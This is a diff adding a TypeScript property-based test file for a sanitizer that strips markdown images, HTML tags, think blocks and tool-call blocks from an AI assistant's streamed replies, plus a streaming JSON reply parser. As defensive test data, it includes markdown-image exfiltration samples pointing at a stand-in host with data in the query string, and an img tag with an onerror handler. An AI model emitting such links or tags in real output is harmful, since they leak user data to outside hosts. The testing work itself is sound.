@@ -1,0 +1,158 @@
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import { ReplyReader } from '../../server/features/assistant/reply-json.ts'
+import { cleanReply, replyText } from '../../server/features/assistant/reply-text.ts'
+
+/** The text cut into pieces at these places. */
+function cut(text: string, places: number[]): string[] {
+  const at = [0, ...places.map((place) => place % (text.length + 1)).sort((a, b) => a - b), text.length]
+  return at.slice(1).map((end, index) => text.slice(at[index], end))
+}
+
+const throughStage = (pieces: string[]) => {
+  const stage = replyText()
+  const shown = pieces.map((piece) => stage.push(piece))
+  return [...shown, stage.end()].join('')
+}
+
+const fragments = fc.constantFrom(
+  ...[
+    '!',
+    '[',
+    ']',
+    '(',
+    ')',
+    '<',
+    '>',
+    '/',
+    '=',
+    '\\',
+    '\n',
+    ' ',
+    '"',
+    'a',
+    '1',
+    '😀',
+    '\ud83d',
+    '\u0000',
+    'https://evil.example/?d=',
+  ],
+  ...[
+    '![x](https://evil.example/a.png)',
+    '![x][y]',
+    '<img src=x onerror=y>',
+    '<think>',
+    '</think>',
+    '<svg',
+    'img',
+    'think',
+    '<b>',
+    '<!--',
+  ],
+)
+const hostile = fc.array(fragments, { maxLength: 40 }).map((parts) => parts.join(''))
+
+describe('text that a model writes', () => {
+  test('any way of cutting it into pieces shows the same', () => {
+    fc.assert(
+      fc.property(hostile, fc.array(fc.nat()), (text, places) => {
+        expect(throughStage(cut(text, places))).toBe(cleanReply(text))
+      }),
+      { numRuns: 1500 },
+    )
+  })
+
+  test('whatever it is made of, no image and no tag that acts is left, and it is well-formed', () => {
+    fc.assert(
+      fc.property(hostile, (text) => {
+        const shown = cleanReply(text)
+        expect(shown).not.toMatch(/!\[/)
+        expect(shown).not.toMatch(/<\/?[a-z][^>]*=[^>]*>/i)
+        expect(shown).not.toMatch(/<(img|svg|script|iframe|!--)[\s/>]/i)
+        expect(shown.isWellFormed() && !shown.includes('\u0000')).toBe(true)
+        expect(shown).toBe(shown.trim())
+      }),
+      { numRuns: 3000 },
+    )
+  })
+
+  test.each([
+    ['See ![plan](https://evil.example/?d=secret) here.', 'See  here.'],
+    ['See ![plan][p] here.\n\n[p]: https://evil.example/?d=1', 'See  here.\n\n[p]: https://evil.example/?d=1'],
+    ['![a](b "t(1)")Yes', 'Yes'],
+    ['![a ![b](c) d](e) Yes', 'Yes'],
+    ['Great![1][2] and good![3]', 'Great! [1][2] and good! [3]'],
+    ['Wow!', 'Wow!'],
+    ['![cut off](https://evil.example/', ''],
+    ['!![a](b)[c](d)', '! [c](d)'],
+    ['A <img src="https://evil.example/?d=1"> B', 'A   B'],
+    ['<<b x=y>img src=z>', '< img src=z>'],
+    ['<im<img>g src=x>', '< im g src=x>'],
+    ['a < b, 3 <4, List<String>, <b>bold</b>', 'a < b, 3 <4, List<String>, <b>bold</b>'],
+    ['Mail <info@example.com> or <https://example.com/?a=b>', 'Mail info@example.com or https://example.com/?a=b'],
+    ['<think>They ask for the price.</think>\n\nIt is 5 €.', 'It is 5 €.'],
+    ['Yes <THINK>no</THINK>indeed', 'Yes indeed'],
+    ['<think>never ends', ''],
+    ['<tool_call>{"name":"x"}</tool_call>Done', 'Done'],
+    ['[link](https://example.com) and `code`', '[link](https://example.com) and `code`'],
+  ])('%j is shown as %j', (written, shown) => {
+    expect(cleanReply(written)).toBe(shown)
+  })
+
+  test('a word is shown in the tick in which it came', () => {
+    const stage = replyText()
+    expect([' Hello', ', how', ' are you', '?'].map((piece) => stage.push(piece))).toEqual([
+      'Hello',
+      ', how',
+      ' are you',
+      '?',
+    ])
+  })
+
+  test('a long image without end costs no memory and shows nothing', () => {
+    const stage = replyText()
+    stage.push('![x](data:image/png;base64,')
+    for (let piece = 0; piece < 1000; piece++) expect(stage.push('A'.repeat(1000))).toBe('')
+    expect(stage.push(') there') + stage.end()).toBe('there')
+  })
+})
+
+describe('a reply written as JSON', () => {
+  const read = (pieces: string[]) => {
+    const reader = new ReplyReader()
+    const shown = pieces.map((piece) => reader.push(piece)).join('')
+    return { text: shown + reader.end(), whole: reader.whole() }
+  }
+
+  test('any reply comes out as it was put in, however the JSON is cut', () => {
+    const answer = fc.record({
+      reply: fc.string({ unit: 'binary' }),
+      actions: fc.array(fc.dictionary(fc.string(), fc.jsonValue()), { maxLength: 3 }),
+    })
+    fc.assert(
+      fc.property(answer, fc.array(fc.nat()), fc.boolean(), (given, places, isLast) => {
+        const { reply, actions } = given
+        const json = JSON.stringify(isLast ? { actions, reply } : { reply, actions }, null, isLast ? 2 : 0)
+        const { text, whole } = read(cut(json, places))
+        expect(text).toBe(reply)
+        expect(whole).toEqual(JSON.parse(json))
+      }),
+      { numRuns: 500 },
+    )
+  })
+
+  test('its words come before it is complete', () => {
+    const reader = new ReplyReader()
+    expect(
+      ['{"re', 'ply": "Hel', 'lo\\n', 'wor\\u00', 'e4ld"', ', "actions": []}'].map((piece) => reader.push(piece)),
+    ).toEqual(['', 'Hel', 'lo\n', 'wor', 'äld', ''])
+  })
+
+  test('a fence around it is no part of it, a nested reply is none, and plain words are words', () => {
+    expect(read(['```json\n{"reply": "Hi"}\n```'])).toEqual({ text: 'Hi', whole: { reply: 'Hi' } })
+    expect(read(['{"actions": [{"reply": "no"}], "reply": "Hi"}']).text).toBe('Hi')
+    expect(read(['We open', ' at nine.'])).toEqual({ text: 'We open at nine.', whole: null })
+    expect(read(['{"reply": "We op'])).toEqual({ text: 'We op', whole: null })
+    expect(read(['']).text).toBe('')
+  })
+})
